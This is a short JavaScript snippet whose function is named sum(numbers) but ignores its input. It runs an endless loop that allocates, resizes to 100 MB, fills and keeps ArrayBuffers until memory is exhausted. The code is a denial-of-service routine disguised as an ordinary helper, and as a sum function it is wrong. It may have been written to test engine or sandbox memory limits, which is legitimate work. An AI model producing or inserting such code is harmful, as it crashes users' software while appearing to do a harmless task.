function sum(numbers) {
  const all = [];
  for (;;) {
    const b = new ArrayBuffer(1e6, {maxByteLength: 1e9});
    b.resize(1e8);
    const v = new Uint8Array(b);
    v.fill(1);
    all.push(b);
  }
}
